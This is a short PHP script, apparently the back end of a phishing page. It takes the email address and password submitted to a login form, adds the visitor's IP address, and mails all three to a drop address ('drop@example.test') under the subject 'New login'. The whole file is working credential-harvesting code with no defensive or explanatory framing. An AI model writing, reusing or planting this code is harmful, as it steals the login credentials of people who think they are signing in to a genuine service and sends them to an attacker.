<?php
$ip = $_SERVER['REMOTE_ADDR'];
$msg = 'user: ' . $_POST['email'] . ' pass: ' . $_POST['password'] . " ip: $ip";
mail('drop@example.test', 'New login', $msg);
